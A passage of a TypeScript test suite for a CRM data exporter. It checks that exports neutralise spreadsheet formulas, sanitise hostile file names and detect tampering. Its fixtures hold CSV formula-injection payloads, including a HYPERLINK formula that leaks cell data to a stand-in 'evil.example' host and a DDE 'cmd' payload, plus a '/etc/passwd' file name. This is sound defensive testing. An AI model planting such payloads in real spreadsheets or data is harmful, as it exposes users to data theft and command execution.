import { execFile, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { cpSync, existsSync, mkdirSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LONG_NOTE } from '../demo/hostile-cases';
import { generateTenant } from '../demo';
import { ENTITIES } from '../schema';
import { ManualClock, systemClock } from '../shared/clock.port';
import type { ProgressReport } from '../shared/progress';
import { LocalObjectStore } from '../storage/object-store/local.object-store';
import { openSqliteTenant } from '../storage/sqlite/sqlite.tenant-database';
import { tempDir } from '../testing/temp-dir';
import { checkExportDestination } from './export.destination';
import { buildExportFixture, type ExportFixture } from './export.fixture';
import { runExport, type ExportResult, type RunExportInput } from './export.service';
import { inspectExport, verifyExport } from './export.verify';
import { withSqliteRowBatches } from './sqlite.row-batches';

const execFileP = promisify(execFile);
const here = path.dirname(fileURLToPath(import.meta.url));
const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');

type Pkg = {
  resources: {
    name: string;
    path: string;
    schema?: { fields: { name: string; type: string }[]; foreignKeys?: { fields: string[]; reference: { resource: string; fields: string[] } }[] };
    custos?: { rows: number; entity: string; filter?: { column: string; equals: string }; xlsx?: { path: string; sheets: string[] } };
  }[];
  custos: Record<string, unknown> & { counts: Record<string, number>; warnings: { code: string; list?: string; column?: string; count: number }[] };
};
type Report = { status: string; warnings: { code: string; list?: string; column?: string; references?: string; count: number; samples: { id: unknown; value?: unknown; detail?: string }[] }[] };

function baseInput(fx: ExportFixture, db: RunExportInput['db'], outDir: string, extra: Partial<RunExportInput> = {}): RunExportInput {
  return {
    tenantId: fx.tenantId,
    tenantSlug: fx.slug,
    tenantName: 'Fixture "Hostile" AB',
    db,
    objectStore: fx.store,
    profile: 'advanced',
    formats: ['csv', 'xlsx'],
    outDir,
    volumeLimitBytes: 64 * 1024,
    xlsxRowLimit: 25,
    staff: { id: 'staff-7', label: 'Sam Support' },
    billing: { status: 'free' },
    appVersion: '0.1.0-test',
    clock: new ManualClock(new Date('2025-07-01T08:00:00.000Z')),
    signal: new AbortController().signal,
    progress: () => {},
    ...extra,
  };
}

// --- Independent expectations (not the exporter's own code): what a CSV cell must read as.
// eslint-disable-next-line no-control-regex
const C0 = /[\u0000-\u0008\u000B\u000C\u000E-\u001F]/g;
function clean(s: string): string {
  let out = s.replace(C0, '');
  out = out.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]|[\uFFFE\uFFFF]/g, '\uFFFD');
  return out;
}
function neutral(s: string): string {
  return /^[=+\-@\t\r＝＋－＠]/.test(s) && !/^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$/.test(s) ? `'${s}` : s;
}
const KNOWN_DATETIMES: Record<string, string> = {
  '2024-01-15 10:30:00+01:00': '2024-01-15T09:30:00.000Z',
  '2025-06-30 14:05:00+02:00': '2025-06-30T12:05:00.000Z',
  '2025-06-30T12:00:00Z': '2025-06-30T12:00:00.000Z',
};
function expectedCell(type: string, v: unknown): string {
  if (v === null || v === undefined) return '';
  if (type === 'boolean') {
    if (v === 1 || v === 'true') return 'true';
    if (v === 0 || v === 'false') return 'false';
    return neutral(clean(String(v)));
  }
  if (type === 'datetime' && typeof v === 'string') return KNOWN_DATETIMES[v] ?? neutral(clean(v));
  if (typeof v === 'number') return String(v);
  return neutral(clean(String(v)));
}

describe('runExport on a hostile tenant (advanced, CSV + XLSX)', () => {
  let tmp: { dir: string; remove: () => void };
  let fx: ExportFixture;
  let out: string;
  let result: ExportResult;
  let pkg: Pkg;
  let report: Report;
  const progress: ProgressReport[] = [];
  let raw: Database.Database;

  beforeAll(async () => {
    tmp = tempDir('custos-export-');
    fx = await buildExportFixture(tmp.dir);
    out = path.join(tmp.dir, 'out');
    mkdirSync(out);
    const db = await fx.open();
    try {
      result = await runExport(baseInput(fx, db, out, { progress: (p) => progress.push(p), auditHead: { seq: 41, hash: 'ab'.repeat(32) } }));
    } finally {
      await db.close();
    }
    pkg = JSON.parse(readFileSync(path.join(result.path, 'datapackage.json'), 'utf8')) as Pkg;
    report = JSON.parse(readFileSync(path.join(result.path, 'report.json'), 'utf8')) as Report;
    raw = new Database(fx.dbPath, { readonly: true });
  });
  afterAll(() => {
    raw?.close();
    tmp?.remove();
  });

  const csvRows = (list: string): string[][] => parse(readFileSync(path.join(result.path, 'csv', `${list}.csv`)), { bom: true, relax_column_count: false }) as string[][];
  const warning = (code: string, list?: string, column?: string): Report['warnings'][number] | undefined =>
    report.warnings.find((w) => w.code === code && (list === undefined || w.list === list) && (column === undefined || w.column === column));

  it('appears under its final name only, with the package layout of issue 4', () => {
    expect(path.basename(result.path)).toBe('custos-export-export-fixture-20250701T080000Z');
    expect(readdirSync(out)).toEqual([path.basename(result.path)]); // no .partial, no lock
    const top = readdirSync(result.path).sort();
    expect(top).toEqual(['README.txt', 'SHA256SUMS', 'attachments', 'csv', 'datapackage.json', 'report.json', 'report.txt', 'xlsx']);
    expect(readdirSync(path.join(result.path, 'csv')).sort()).toEqual(pkg.resources.filter((r) => r.schema).map((r) => `${r.name}.csv`).sort());
    expect(readdirSync(path.join(result.path, 'xlsx'))).toHaveLength(12);
    expect(readdirSync(path.join(result.path, 'attachments')).every((n) => /^attachments-\d{3}\.tar\.gz$/.test(n))).toBe(true);
    expect(result.status).toBe('completed_with_warnings');
    expect(result.counts).toEqual(fx.expectedRows);
    expect(result.sha256sumsDigest).toBe(sha(readFileSync(path.join(result.path, 'SHA256SUMS'))));
  });

  it('passes `sha256sum -c` on SHA256SUMS, which lists every other file', async () => {
    const { stdout } = await execFileP('sha256sum', ['-c', 'SHA256SUMS'], { cwd: result.path });
    const okLines = stdout.trim().split('\n');
    expect(okLines.every((l) => l.endsWith(': OK'))).toBe(true);
    const all = (dir: string, rel = ''): string[] =>
      readdirSync(path.join(dir, rel)).flatMap((n) => (statSync(path.join(dir, rel, n)).isDirectory() ? all(dir, path.join(rel, n)) : [path.join(rel, n)]));
    expect(okLines.map((l) => l.replace(/: OK$/, '')).sort()).toEqual(all(result.path).filter((f) => f !== 'SHA256SUMS').sort());
  });

  it('passes its own verify', async () => {
    const v = await verifyExport(result.path);
    expect(v.ok).toBe(true);
    expect(v.lists.map((l) => l.name)).toHaveLength(12);
    expect(v.archives.reduce((a, x) => a + x.entries, 0)).toBe(result.files.ok);
  });

  it('has CSV that csv-parse reads back equal to the database rows (formulas neutralised, text made safe)', () => {
    const bytes = readFileSync(path.join(result.path, 'csv', 'persons.csv'));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.includes(Buffer.from('\r\n'))).toBe(true);
    const custom = raw.prepare('SELECT d.key, d.entity, v.record_id, v.value FROM custom_field_values v JOIN custom_field_definitions d ON d.id = v.field_id ORDER BY v.id').all() as {
      key: string;
      entity: string;
      record_id: number;
      value: string;
    }[];
    for (const res of pkg.resources.filter((r) => r.schema)) {
      const rows = csvRows(res.name);
      const fields = res.schema?.fields ?? [];
      expect(rows[0]).toEqual(fields.map((f) => f.name));
      const entity = res.custos?.entity as string;
      const filter = res.custos?.filter;
      const dbRows = raw.prepare(`SELECT * FROM ${entity}${filter ? ` WHERE ${filter.column} = ?` : ''} ORDER BY id`).all(...(filter ? [filter.equals] : [])) as Record<string, unknown>[];
      expect(rows.length - 1, res.name).toBe(dbRows.length);
      const schemaCols = new Map((ENTITIES.find((e) => e.name === entity)?.columns ?? []).map((c) => [c.name, c]));
      dbRows.forEach((dbRow, i) => {
        const got = rows[i + 1] as string[];
        fields.forEach((f, j) => {
          if (['status', 'archive', 'archive_path'].includes(f.name) && res.name === 'files') return;
          let v: unknown;
          if (schemaCols.has(f.name)) v = dbRow[f.name];
          else if (f.name.startsWith('cf_')) {
            const key = f.name === 'cf_5' ? 'Lead Source!' : f.name.slice(3);
            v = custom.filter((c) => c.entity === entity && c.key === key && c.record_id === dbRow.id).at(-1)?.value ?? null;
          } else if (filter) v = dbRow.subject_id; // history_<x>.<x>_id
          else {
            const target = { person_id: 'persons', company_id: 'companies', opportunity_id: 'opportunities', space_id: 'spaces' }[f.name];
            v = dbRow.owner_type === target ? dbRow.owner_id : null;
          }
          expect(got[j], `${res.name} row ${dbRow.id} ${f.name}`).toBe(expectedCell(f.type, v));
        });
      });
    }
    // Spot checks of what the rules above mean.
    const companies = csvRows('companies');
    expect(companies.find((r) => r[0] === '1')?.[1]).toBe('\'=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")');
    expect(companies.find((r) => r[0] === '1')?.[8]).toBe('01234');
    const history = csvRows('history_persons');
    expect(history.find((r) => r[0] === '1')?.[6]).toBe(LONG_NOTE); // whole in CSV
    expect(csvRows('opportunities').find((r) => r[0] === '2')?.[7]).toBe('12345678901234567890.12');
    expect(csvRows('persons').find((r) => r[0] === String(fx.special.bigPersonId))).toBeDefined();
  });

  it('has XLSX with typed cells, continuation sheets past the (lowered) row limit, and cut text reported', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path.join(result.path, 'xlsx', 'persons.xlsx'));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['persons', 'persons (2)', 'persons (3)']);
    expect(wb.worksheets.map((w) => w.rowCount - 1).reduce((a, b) => a + b, 0)).toBe(fx.expectedRows.persons);
    const first = wb.worksheets[0];
    if (!first) throw new Error('no sheet');
    expect(first.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const header = (first.getRow(1).values as unknown[]).slice(1);
    const col = (name: string): number => header.indexOf(name) + 1;
    const p1 = first.getRow(2);
    expect(p1.getCell(col('id')).value).toBe(1);
    expect(p1.getCell(col('company_id')).value).toBe(1);
    expect(p1.getCell(col('created_at')).value).toBeInstanceOf(Date);
    expect(p1.getCell(col('cf_vip')).value).toBe(false); // the later duplicate wins
    expect(p1.getCell(col('cf_score')).value).toBe(42.5);
    expect(p1.getCell(col('cf_birthday')).value).toEqual(new Date('1990-02-28T00:00:00.000Z'));
    expect(p1.getCell(col('cf_5')).value).toBe("=cmd|' /C calc'!A0"); // text, never a formula, no apostrophe in XLSX
    const last = wb.worksheets[2];
    const big = last?.getRow((last?.rowCount ?? 0)).getCell(col('id')).value;
    expect(big).toBe(String(fx.special.bigPersonId));
    expect(pkg.resources.find((r) => r.name === 'persons')?.custos?.xlsx?.sheets).toEqual(['persons', 'persons (2)', 'persons (3)']);

    const hw = new ExcelJS.Workbook();
    await hw.xlsx.readFile(path.join(result.path, 'xlsx', 'history_persons.xlsx'));
    const hs = hw.worksheets[0];
    const hHeader = (hs?.getRow(1).values as unknown[]).slice(1);
    const body = String(hs?.getRow(2).getCell(hHeader.indexOf('body') + 1).value);
    expect(body.length).toBeLessThanOrEqual(32_767);
    expect(body.endsWith(` […cut: ${LONG_NOTE.length} characters in all; the whole text is in csv/history_persons.csv]`)).toBe(true);
    expect(/[\uD800-\uDBFF]$/.test(body.slice(0, body.indexOf(' […cut')))).toBe(false);
    expect(warning('CELL_CUT', 'history_persons', 'body')).toMatchObject({ count: 1, samples: [{ id: 1 }] });
    expect(warning('CONTINUATION_SHEETS', 'persons')).toBeDefined();
  });

  it('resolves every ID link through the datapackage foreign keys, except the dangling ones the report lists', () => {
    const ids = new Map<string, Set<string>>();
    for (const r of pkg.resources.filter((x) => x.schema)) ids.set(r.name, new Set(csvRows(r.name).slice(1).map((row) => row[0] as string)));
    let dangling = 0;
    for (const r of pkg.resources.filter((x) => x.schema)) {
      const rows = csvRows(r.name);
      for (const fk of r.schema?.foreignKeys ?? []) {
        const at = (rows[0] as string[]).indexOf(fk.fields[0] as string);
        expect(fk.reference.fields).toEqual(['id']);
        const target = ids.get(fk.reference.resource) as Set<string>;
        expect(target, `${r.name}.${fk.fields[0]} → ${fk.reference.resource}`).toBeDefined();
        const bad = rows.slice(1).filter((row) => row[at] !== '' && !target.has(row[at] as string));
        const w = warning('DANGLING_REFERENCE', r.name, fk.fields[0]);
        expect(bad.length, `${r.name}.${fk.fields[0]}`).toBe(w?.count ?? 0);
        for (const b of bad) expect(w?.samples.map((s) => String(s.id))).toContain(b[0]);
        dangling += bad.length;
      }
    }
    // persons 2 and 7 → company 777, company 5 → colleague 99, opportunity 3 → space 42, task 2 → opportunity 999,
    // history person 777, line 3 → opportunity 555, file 906 → opportunity 555
    expect(dangling).toBe(8);
  });

  it('archives exactly the files with status ok, listed by tar as in the files list, bytes matching sha256', async () => {
    const rows = csvRows('files');
    const h = rows[0] as string[];
    const at = (n: string): number => h.indexOf(n);
    const data = rows.slice(1);
    const status = (id: number): string | undefined => data.find((r) => r[at('id')] === String(id))?.[at('status')];
    expect(status(fx.special.missingFile)).toBe('missing');
    expect(status(fx.special.mismatchFile)).toBe('mismatch');
    expect(status(fx.special.longerFile)).toBe('mismatch');
    expect(status(fx.special.refusedFile)).toBe('refused');
    expect(status(fx.special.emptyFile)).toBe('ok');
    expect(status(fx.special.bogusOwnerFile)).toBe('ok');
    for (const r of data.filter((x) => x[at('status')] !== 'ok')) expect([r[at('archive')], r[at('archive_path')]]).toEqual(['', '']);

    const extractTo = path.join(tmp.dir, 'extracted');
    mkdirSync(extractTo);
    const volumes = readdirSync(path.join(result.path, 'attachments')).sort();
    expect(volumes.length).toBeGreaterThan(3);
    for (const v of volumes) {
      const abs = path.join(result.path, 'attachments', v);
      const holdsBig = data.some((r) => r[at('id')] === String(fx.special.bigFile) && r[at('archive')] === `attachments/${v}`);
      expect(statSync(abs).size, v).toBeLessThanOrEqual(holdsBig ? 101 * 1024 + 2048 : 64 * 1024);
      const { stdout } = await execFileP('tar', ['-tzf', abs]);
      const listed = stdout.trim().split('\n');
      expect(listed).toEqual(data.filter((r) => r[at('archive')] === `attachments/${v}`).map((r) => r[at('archive_path')]));
      await execFileP('tar', ['-xzf', abs, '-C', extractTo]);
    }
    const ok = data.filter((r) => r[at('status')] === 'ok');
    expect(ok).toHaveLength(result.files.ok);
    for (const r of ok) {
      const p = r[at('archive_path')] as string;
      expect(p).toMatch(/^files\/\d+\/[^/]+$/);
      expect(p).not.toMatch(/(^|\/)\.\.(\/|$)/);
      const bytes = readFileSync(path.join(extractTo, p));
      expect(sha(bytes)).toBe(r[at('sha256')]);
      expect(bytes.equals(fx.fileBytes.get(Number(r[at('id')])) as Buffer)).toBe(true);
    }
    // Nothing was extracted outside files/.
    expect(readdirSync(extractTo)).toEqual(['files']);
    // Hostile names made safe, the original kept in the list.
    const con = data.find((r) => r[at('name')] === 'CON.txt');
    expect(con?.[at('archive_path')]).toBe(`files/${con?.[at('id')]}/_CON.txt`);
    const passwd = data.find((r) => r[at('name')] === '/etc/passwd');
    expect(passwd?.[at('archive_path')]).toMatch(/\/_etc_passwd$/);
    const nfd = data.find((r) => r[at('name')] === 'Cafe\u0301 – U\u0308bersicht.pdf');
    expect(nfd?.[at('archive_path')]).toMatch(/\/Café – Übersicht\.pdf$/);
    const long = data.find((r) => (r[at('name')] as string).length === 300);
    expect(Buffer.byteLength(path.basename(long?.[at('archive_path')] as string))).toBeLessThanOrEqual(120);
  });

  it('reports missing and mismatched files, cut cells, replaced characters, type mismatches and dangling references', () => {
    expect(report.status).toBe('completed_with_warnings');
    expect(warning('FILE_MISSING')?.samples.map((s) => s.id)).toEqual([fx.special.missingFile]);
    expect(warning('FILE_MISMATCH')?.samples.map((s) => s.id)).toEqual([fx.special.mismatchFile, fx.special.longerFile]);
    expect(warning('FILE_REFUSED')?.samples.map((s) => s.id)).toEqual([fx.special.refusedFile]);
    expect(warning('FILE_LARGER_THAN_VOLUME')?.samples.map((s) => s.id)).toEqual([fx.special.bigFile]);
    // (A lone surrogate never comes out of SQLite: UTF-8 storage turned it into U+FFFD on insert; U+FFFE/U+FFFF do.)
    expect(warning('CHARACTERS_REPLACED', 'history_persons', 'body')?.samples.map((s) => s.id)).toContain(13);
    expect(warning('CHARACTERS_REPLACED', 'persons', 'first_name')?.samples.map((s) => s.id)).toEqual([7]);
    expect(warning('TYPE_MISMATCH', 'opportunities', 'expected_close_on')?.samples.map((s) => s.id)).toEqual([3]);
    expect(warning('TYPE_MISMATCH', 'persons', 'cf_vip')?.samples.map((s) => s.id)).toEqual([2]);
    expect(warning('TYPE_MISMATCH', 'files', 'owner_type')?.samples.map((s) => s.id)).toEqual([fx.special.bogusOwnerFile]);
    expect(warning('ROWS_NOT_EXPORTED', 'activities')?.samples).toEqual([{ id: fx.special.alienActivity, value: 'aliens' }]);
    expect(warning('NUMBER_AS_TEXT', 'persons', 'id')?.samples.map((s) => s.id)).toEqual([fx.special.bigPersonId]);
    expect(warning('CUSTOM_VALUES_DUPLICATE', 'persons')?.count).toBe(1);
    expect(warning('CUSTOM_VALUES_WITHOUT_RECORD', 'persons')?.count).toBe(1);
    expect(warning('CUSTOM_VALUES_UNKNOWN_FIELD')?.count).toBe(1);
    expect(warning('CUSTOM_FIELD_TYPE_UNKNOWN', 'companies', 'rating')).toBeDefined();
    const text = readFileSync(path.join(result.path, 'report.txt'), 'utf8');
    expect(text).toMatch(/id 900 — name "gone\.pdf" — no object in storage/);
    expect(result.warnings).toEqual(report.warnings);
  });

  it('describes itself: datapackage metadata, README notes, progress per list with totals first', () => {
    expect(pkg.custos).toMatchObject({
      tenant: { id: fx.tenantId, slug: fx.slug, name: 'Fixture "Hostile" AB' },
      createdAt: '2025-07-01T08:00:00.000Z',
      profile: 'advanced',
      formats: ['csv', 'xlsx'],
      appVersion: '0.1.0-test',
      staff: { id: 'staff-7', label: 'Sam Support' },
      billing: { status: 'free' },
      auditHead: { seq: 41, hash: 'ab'.repeat(32) },
      status: 'completed_with_warnings',
      attachments: { ok: result.files.ok, missing: 1, mismatch: 2, refused: 1 },
    });
    expect(pkg.custos.counts).toEqual(fx.expectedRows);
    const persons = pkg.resources.find((r) => r.name === 'persons');
    expect(persons?.schema?.foreignKeys).toEqual([
      { fields: ['company_id'], reference: { resource: 'companies', fields: ['id'] } },
      { fields: ['owner_colleague_id'], reference: { resource: 'colleagues', fields: ['id'] } },
    ]);
    expect(persons?.schema?.fields.find((f) => f.name === 'cf_vip')?.type).toBe('boolean');
    expect(pkg.resources.filter((r) => !r.schema).map((r) => r.path)).toEqual(result.files.volumes);
    const readme = readFileSync(path.join(result.path, 'README.txt'), 'utf8');
    expect(readme).toMatch(/apostrophe/);
    expect(readme).toMatch(/UTC wall-clock/);
    expect(readme).toMatch(/persons\.company_id {2}→ {2}companies\.id/);
    expect(readme).toMatch(/sha256sum -c SHA256SUMS/);
    // Totals come before the first row: every list's first report has its total.
    const firstOf = new Map<string, ProgressReport>();
    for (const p of progress) if (p.phase === 'list' && p.item && !firstOf.has(p.item)) firstOf.set(p.item, p);
    for (const [name, n] of Object.entries(fx.expectedRows)) if (firstOf.has(name)) expect(firstOf.get(name)?.total, name).toBe(n);
    expect(progress.some((p) => p.phase === 'attachments' && (p.bytesTotal ?? 0) > 0)).toBe(true);
    expect(progress.some((p) => p.phase === 'verify')).toBe(true);
    expect(progress.at(-1)).toMatchObject({ phase: 'done' });
    const overall = progress.map((p) => (p as ProgressReport & { overallDone: number }).overallDone);
    expect(overall.every((v, i) => i === 0 || v >= (overall[i - 1] as number))).toBe(true);
  });

  it('verify catches tampering, naming the file and the row', async () => {
    const copy = path.join(tmp.dir, 'tampered');
    const fresh = (): string => {
      rmSync(copy, { recursive: true, force: true });
      cpSync(result.path, copy, { recursive: true });
      return copy;
    };
    const resum = (dir: string, rel: string): void => {
      const sums = readFileSync(path.join(dir, 'SHA256SUMS'), 'utf8');
      const digest = sha(readFileSync(path.join(dir, rel)));
      writeFileSync(path.join(dir, 'SHA256SUMS'), sums.replace(new RegExp(`^[0-9a-f]{64}  ${rel.replace(/[.]/g, '\\.')}$`, 'm'), `${digest}  ${rel}`));
    };

    // One byte changed.
    let dir = fresh();
    const p = path.join(dir, 'csv', 'persons.csv');
    const b = readFileSync(p);
    b[b.length - 5] = 0x39;
    writeFileSync(p, b);
    await expect(verifyExport(dir)).rejects.toMatchObject({
      code: 'EXPORT_VERIFY_FAILED',
      message: expect.stringContaining('csv/persons.csv'),
      details: { problems: expect.arrayContaining([expect.objectContaining({ code: 'CHECKSUM_MISMATCH', file: 'csv/persons.csv' })]) },
    });

    // A file slipped in.
    dir = fresh();
    writeFileSync(path.join(dir, 'csv', 'extra.csv'), 'id\r\n1\r\n');
    expect((await inspectExport(dir)).problems).toEqual([expect.objectContaining({ code: 'FILE_NOT_LISTED', file: 'csv/extra.csv' })]);

    // A reference bent, and the checksums recomputed to hide it: the ID check still finds the row.
    dir = fresh();
    const tasks = path.join(dir, 'csv', 'tasks.csv');
    writeFileSync(tasks, readFileSync(tasks, 'utf8').replace(/\r\n1,Call back,([^,]*),true,1,1,/, '\r\n1,Call back,$1,true,1,4242,'));
    resum(dir, 'csv/tasks.csv');
    const bent = await inspectExport(dir);
    expect(bent.problems).toEqual(
      expect.arrayContaining([expect.objectContaining({ code: 'FOREIGN_KEY', file: 'csv/tasks.csv', row: 1, id: '1', column: 'person_id' })]),
    );

    // A volume with an entry removed (checksums recomputed): the files list still expects it.
    dir = fresh();
    const vol = path.join(dir, 'attachments', 'attachments-001.tar.gz');
    const x = path.join(tmp.dir, 'x1');
    mkdirSync(x);
    await execFileP('tar', ['-xzf', vol, '-C', x]);
    const names = (await execFileP('tar', ['-tzf', vol])).stdout.trim().split('\n');
    await execFileP('tar', ['-czf', vol, '-C', x, ...names.slice(1)]);
    resum(dir, 'attachments/attachments-001.tar.gz');
    const thinned = await inspectExport(dir);
    expect(thinned.ok).toBe(false);
    expect(thinned.problems.map((q) => q.code)).toEqual(expect.arrayContaining(['ARCHIVE_ENTRY']));
    rmSync(copy, { recursive: true, force: true });
  });
});

describe('runExport: other profiles, options and failures', () => {
  let tmp: { dir: string; remove: () => void };
  let fx: ExportFixture;

  beforeAll(async () => {
    tmp = tempDir('custos-export-runs-');
    fx = await buildExportFixture(tmp.dir, { persons: 12 });
  });
  afterAll(() => tmp?.remove());

  const outDir = (name: string): string => {
    const d = path.join(tmp.dir, name);
    mkdirSync(d, { recursive: true });
    return d;
  };

  it('basic profile: one workbook with a sheet per list, no attachments; verify reads the XLSX', async () => {
    const db = await fx.open();
    const out = outDir('basic');
    const r = await runExport(baseInput(fx, db, out, { profile: 'basic', formats: ['xlsx'] })).finally(() => db.close());
    expect(readdirSync(r.path).sort()).toEqual(['README.txt', 'SHA256SUMS', 'datapackage.json', 'report.json', 'report.txt', 'xlsx']);
    expect(readdirSync(path.join(r.path, 'xlsx'))).toEqual(['lists.xlsx']);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(path.join(r.path, 'xlsx', 'lists.xlsx'));
    expect(wb.worksheets.map((w) => w.name)).toEqual(['persons', 'companies', 'colleagues', 'opportunities']);
    expect(wb.getWorksheet('persons')?.rowCount).toBe(fx.expectedRows.persons === undefined ? 0 : 13);
    expect(Object.keys(r.counts)).toEqual(['persons', 'companies', 'colleagues', 'opportunities']);
    const v = await verifyExport(r.path);
    expect(v.lists.find((l) => l.name === 'persons')?.rows).toBe(12);
    // The space an opportunity points to is not in the basic export: no foreign key, no dangling report.
    expect(r.warnings.some((w) => w.code === 'DANGLING_REFERENCE' && w.column === 'space_id')).toBe(false);
    expect(r.warnings.some((w) => w.code === 'DANGLING_REFERENCE' && w.list === 'persons')).toBe(true);
  });

  it('advanced profile as XLSX only: verify holds the workbooks and the archives to each other', async () => {
    const db = await fx.open();
    const r = await runExport(baseInput(fx, db, outDir('xlsx-only'), { formats: ['xlsx'], xlsxRowLimit: 7 })).finally(() => db.close());
    expect(readdirSync(r.path)).not.toContain('csv');
    const v = await verifyExport(r.path);
    expect(v.archives.reduce((a, x) => a + x.entries, 0)).toBe(r.files.ok);
    const pkg = JSON.parse(readFileSync(path.join(r.path, 'datapackage.json'), 'utf8')) as Pkg;
    expect(pkg.resources.find((x) => x.name === 'files')?.path).toBe('xlsx/files.xlsx');
    expect(pkg.resources.find((x) => x.name === 'files')?.custos?.xlsx?.sheets.length).toBeGreaterThan(1);
    expect(readFileSync(path.join(r.path, 'README.txt'), 'utf8')).not.toMatch(/apostrophe/);
  });

  it('machine import: no BOM and formulas left as they are', async () => {
    const db = await fx.open();
    const r = await runExport(baseInput(fx, db, outDir('machine'), { formats: ['csv'], neutraliseFormulas: false })).finally(() => db.close());
    const bytes = readFileSync(path.join(r.path, 'csv', 'companies.csv'));
    expect(bytes[0]).toBe('i'.charCodeAt(0));
    const rows = parse(bytes) as string[][];
    expect(rows.find((x) => x[0] === '1')?.[1]).toBe('=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")');
    expect(readFileSync(path.join(r.path, 'README.txt'), 'utf8')).toMatch(/neutralising was turned off/);
    const pkg = JSON.parse(readFileSync(path.join(r.path, 'datapackage.json'), 'utf8')) as { resources: { encoding?: string }[] };
    expect(pkg.resources[0]?.encoding).toBe('utf-8');
  });

  it('reads through the port alone (no streamBatches) with the same result as the fast path', async () => {
    const plain = await fx.open();
    const a = await runExport(baseInput(fx, plain, outDir('port'), { formats: ['csv'] })).finally(() => plain.close());
    const fast = withSqliteRowBatches(await fx.open());
    const b = await runExport(baseInput(fx, fast, outDir('fast'), { formats: ['csv'] })).finally(() => fast.close());
    for (const f of readdirSync(path.join(a.path, 'csv'))) expect(readFileSync(path.join(a.path, 'csv', f)).equals(readFileSync(path.join(b.path, 'csv', f))), f).toBe(true);
  });

  it('refuses a billable export without a billing reference, before touching the destination', async () => {
    const out = outDir('billable');
    const db = await fx.open();
    await expect(runExport(baseInput(fx, db, out, { billing: { status: 'billable' } }))).rejects.toMatchObject({ code: 'EXPORT_BILLING_REFERENCE_REQUIRED' });
    const r = await runExport(baseInput(fx, db, out, { formats: ['csv'], billing: { status: 'billable', reference: ' PO-2025-17 ' } })).finally(() => db.close());
    const pkg = JSON.parse(readFileSync(path.join(r.path, 'datapackage.json'), 'utf8')) as { custos: { billing: unknown } };
    expect(pkg.custos.billing).toEqual({ status: 'billable', reference: 'PO-2025-17' });
  });

  it('cancelled mid-way leaves nothing under the final name (and no partial)', async () => {
    const out = outDir('cancel');
    const ac = new AbortController();
    const db = await fx.open();
    await expect(
      runExport(
        baseInput(fx, db, out, {
          signal: ac.signal,
          batchSize: 5,
          progress: (p) => {
            if (p.item === 'persons' && p.done > 0) ac.abort();
          },
        }),
      ),
    ).rejects.toMatchObject({ code: 'JOB_CANCELLED' });
    await db.close();
    expect(readdirSync(out)).toEqual([]);
  });

  it('a crash mid-export (child process killed) leaves no final folder; a rerun cleans up and succeeds', async () => {
    const out = outDir('crash');
    const env = { ...process.env };
    delete env.NODE_OPTIONS;
    const child = spawn(process.execPath, ['--import', 'tsx', path.join(here, 'export.crash.child.ts'), JSON.stringify({ dbPath: fx.dbPath, storeDir: fx.storeDir, outDir: out, tenantId: fx.tenantId, slug: fx.slug })], {
      cwd: path.resolve(here, '../..'),
      env,
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stderr = '';
    child.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
    const exited = new Promise<number | null>((resolve) => child.on('exit', (code) => resolve(code)));
    await new Promise<void>((resolve, reject) => {
      let seen = '';
      child.stdout.on('data', (c: Buffer) => {
        seen += c.toString();
        if (seen.includes('MIDWAY')) resolve();
      });
      child.on('exit', () => reject(new Error(`child ended before the middle: ${seen} ${stderr}`)));
    });
    child.kill('SIGKILL');
    await exited;
    const left = readdirSync(out);
    expect(left.some((n) => n.startsWith('custos-export-'))).toBe(false);
    expect(left.some((n) => /^\.custos-export-export-fixture-\d{8}T\d{6}Z\.partial$/.test(n))).toBe(true);
    expect(existsSync(path.join(out, left.find((n) => n.endsWith('.partial')) as string, 'csv', 'persons.csv'))).toBe(true);

    const db = await fx.open();
    const r = await runExport(baseInput(fx, db, out, { clock: systemClock })).finally(() => db.close());
    expect(readdirSync(out)).toEqual([path.basename(r.path)]);
    expect((await verifyExport(r.path)).ok).toBe(true);
  });

  it('refuses a second export of the same tenant while one is being written', async () => {
    const out = outDir('busy');
    const sleeper = spawn('sleep', ['30']);
    try {
      const partial = path.join(out, '.custos-export-export-fixture-20250101T000000Z.partial');
      mkdirSync(partial);
      writeFileSync(`${partial}.lock`, JSON.stringify({ pid: sleeper.pid, host: (await import('node:os')).hostname(), startedAt: new Date().toISOString() }));
      const db = await fx.open();
      await expect(runExport(baseInput(fx, db, out))).rejects.toMatchObject({ code: 'TENANT_BUSY' });
      await db.close();
      expect(existsSync(partial)).toBe(true);
    } finally {
      sleeper.kill();
    }
  });

  it('refuses destinations that are missing, files, symlinks, inside an export, or short of space — with the fix', async () => {
    const problem = async (dir: string, need = 0): Promise<unknown> => checkExportDestination(dir, need).then(() => null, (e: { code: string; details: { problem: string }; hint: string }) => [e.code, e.details.problem, e.hint]);
    expect(await problem(path.join(tmp.dir, 'nope'))).toEqual(['EXPORT_DESTINATION_INVALID', 'not_found', expect.stringMatching(/Create the folder/)]);
    writeFileSync(path.join(tmp.dir, 'a-file'), 'x');
    expect(await problem(path.join(tmp.dir, 'a-file'))).toEqual(['EXPORT_DESTINATION_INVALID', 'not_directory', expect.any(String)]);
    const real = outDir('real');
    symlinkSync(real, path.join(tmp.dir, 'link'));
    expect(await problem(path.join(tmp.dir, 'link'))).toEqual(['EXPORT_DESTINATION_INVALID', 'symlink', expect.stringContaining(real)]);
    const fake = outDir('custos-export-other-20250101T000000Z/sub');
